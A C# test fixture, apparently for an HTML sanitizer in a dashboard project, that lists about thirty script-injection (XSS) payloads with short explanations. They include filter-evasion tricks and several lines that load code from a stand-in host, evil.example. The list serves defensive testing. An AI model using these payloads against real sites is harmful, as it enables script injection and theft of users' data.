namespace Dashboard.Testing;

/// <summary>Script elements in every way of writing them.</summary>
internal static class ScriptBodies
{
    public static IReadOnlyList<(string Name, string Why, string Html)> All { get; } =
    [
        ("plain", "the attack everybody tries first", "<script>canary()</script>"),
        ("upper case", "names don't tell cases apart", "<SCRIPT>canary()</SCRIPT>"),
        ("of another host", "the code is fetched", "<script src=\"https://evil.example/stolen.js\"></script>"),
        ("of any scheme", "a host without a scheme takes the page's", "<SCRIPT SRC=//evil.example/stolen.js></SCRIPT>"),
        ("of the portal's own host", "a policy of 'self' allows it", "<script src=\"/stolen.js\"></script>"),
        ("of a data address", "the address is the code", "<script src=\"data:text/javascript,canary()\"></script>"),
        ("of a data address without quotes", "a slash parts attributes too", "<script/src=data:,canary()></script>"),
        ("module", "modules are fetched in another way", "<script type=\"module\">canary(); import('https://evil.example/stolen.js')</script>"),
        ("import map", "renames what the page imports", """<script type="importmap">{"imports":{"a":"https://evil.example/stolen.js"}}</script>"""),
        ("speculation rules", "a browser fetches pages ahead", """<script type="speculationrules">{"prefetch":[{"source":"list","urls":["/stolen"],"eagerness":"immediate"}]}</script>"""),
        ("without an end", "the rest of the page becomes code", "<script>canary()"),
        ("end within a string", "the first end tag counts, whatever the code says", "<script>var a = '</script><script>canary()</script>'</script>"),
        ("written apart", "a filter that deletes once leaves a new one behind", "<scr<script>ipt>canary()</scr</script>ipt>"),
        ("doubled brackets", "a bracket before the tag confuses a filter by pattern", "<<script>canary()//<</script>"),
        ("end before the beginning", "closes whatever the body was put into", "</script><script>canary()</script>"),
        ("with a comment inside", "an old way to hide code from old browsers", "<script><!--\ncanary()\n//--></script>"),
        ("comment with a script inside it", "within it the first end tag does not count", "<script><!--<script>canary()</script>--></script><script>canary()</script>"),
        ("with a null in its name", "a filter stops reading there", "<script\u0000>canary()</script>"),
        ("line break in its tag", "white space of any kind parts attributes", "<script\n\ttype\n=\n'text/javascript'\f>canary()</script\n>"),
        ("attributes on the end tag", "an end tag takes anything", "<script>canary()</script foo=\"bar\" onclick=\"canary()\">"),
        ("within a table", "is allowed there and stays in place", "<table><script>canary()</script><tr><td><script>canary()</script></td></tr></table>"),
        ("within a select", "is allowed there too", "<select><option>a</option><script>canary()</script></select>"),
        ("within a template", "inert until somebody copies it", "<template><script>canary()</script></template>"),
        ("within a declared shadow", "the parser opens the shadow at once", "<div><template shadowrootmode=\"open\"><script>canary()</script><img src=x onerror=canary()></template></div>"),
        ("within noscript", "is markup only where scripts are off", "<noscript><p title=\"</noscript><script>canary()</script>\">a</p></noscript>"),
        ("within a paragraph that it replaces", "writes into the document while it loads", "<p>a<script>document.write('<img src=x onerror=canary()>')</script>b</p>"),
        ("in an old language", "an unknown language runs as script in some", "<script language=\"javascript1.9\">canary()</script><script language=vbscript>canary</script>"),
        ("event for another element", "an old way of handlers", "<script for=\"window\" event=\"onload\">canary()</script>"),
    ];
}
